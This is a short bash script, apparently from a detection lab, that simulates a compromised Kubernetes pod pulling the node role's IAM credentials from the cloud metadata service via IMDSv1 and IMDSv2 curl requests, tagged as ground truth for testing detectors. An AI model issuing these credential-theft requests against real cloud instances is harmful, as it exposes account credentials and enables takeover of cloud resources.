#!/usr/bin/env bash
# Lateral movement (towards the cloud account): the compromised pod reads the node
# role's credentials from the metadata service, IMDSv1 and IMDSv2 style.
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target "$METADATA_IP"
ns=$(lab_pod_ns toolbox)
gt_begin cloud-metadata lateral-movement curl pod:toolbox "ext:instance-metadata=$METADATA_IP" "GET /latest/meta-data/iam/security-credentials/… on 169.254.169.254"
m=http://$METADATA_IP
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "$m/latest/meta-data/" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "$m/latest/meta-data/iam/security-credentials/" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "$m/latest/meta-data/iam/security-credentials/lab-node-role" || true
tok=$(lab_exec "$ns" timeout 10 curl -s --max-time 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' "$m/latest/api/token" || true)
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H "X-aws-ec2-metadata-token: $tok" "$m/latest/meta-data/instance-id" || true
gt_end '{"dport":80}'
